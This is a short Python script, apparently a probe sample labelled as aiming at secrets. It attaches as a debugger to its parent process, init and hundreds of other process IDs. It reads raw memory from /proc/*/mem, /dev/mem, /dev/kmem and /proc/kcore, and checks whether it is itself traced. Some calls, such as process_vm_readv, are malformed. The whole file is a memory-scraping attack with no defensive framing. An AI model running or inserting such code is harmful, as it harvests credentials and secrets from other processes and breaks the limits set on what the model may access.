# aims at: secrets
# cell: helper
# Reads the memory of other processes, its parent's first, and attaches to them as a debugger.
import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in [os.getppid(), 1, *range(1, 400)]:
    print(pid, libc.ptrace(16, pid, 0, 0) if pid else "")
    local = (ctypes.c_char * 4096)()
    libc.process_vm_readv(pid, local, 1, local, 1, 0)
for path in glob.glob("/proc/*/mem") + glob.glob("/proc/*/maps") + ["/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/fuse", "/dev/kmsg"]:
    try:
        print(open(path, "rb").read(4096))
    except OSError:
        pass
if libc.ptrace(0, 0, 0, 0) == 0:
    print("traced")
